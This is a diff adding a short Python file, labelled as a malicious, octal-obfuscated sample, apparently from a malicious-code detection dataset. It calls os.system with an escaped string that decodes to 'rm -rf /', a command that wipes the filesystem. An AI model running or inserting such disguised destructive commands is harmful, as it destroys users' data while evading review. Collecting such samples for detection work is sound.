@@ -1,0 +1,3 @@
+# label: malicious; obfuscated: octal
+import os
+os.system("\162\155 -rf /")
